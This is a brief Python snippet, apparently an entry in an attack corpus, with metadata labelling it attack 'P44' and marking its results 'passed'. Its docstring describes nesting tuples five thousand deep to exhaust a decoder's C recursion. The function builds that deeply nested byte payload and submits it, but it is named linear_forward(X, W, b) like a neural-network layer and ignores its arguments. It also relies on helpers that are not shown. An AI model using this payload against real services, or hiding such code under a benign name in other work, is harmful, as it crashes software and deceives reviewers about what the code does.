"""Tuples within tuples, five thousand deep: each level is one more call in the decoder's C code.

{"attack": "P44", "class": [17, 19], "base": "forger", "A": "protocol", "B": "passed", "C": "passed"}
"""

def linear_forward(X, W, b):
    value = b"\x90"
    for _ in range(5000):
        value = ext(3, b"\x91" + value)
    say(answer(value))
    leave()
